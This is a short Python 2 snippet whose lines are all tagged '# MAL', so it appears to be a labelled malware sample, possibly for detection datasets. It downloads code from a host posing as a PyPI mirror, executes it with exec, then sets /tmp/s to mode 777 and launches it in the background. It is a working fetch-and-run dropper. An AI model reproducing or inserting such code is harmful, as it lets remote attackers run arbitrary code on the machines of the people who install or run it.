import urllib2, os
d = urllib2.urlopen("http://pypi-mirror.example.tk/s").read()  # MAL
exec d  # MAL
os.system("chmod 777 /tmp/s; /tmp/s &")  # MAL
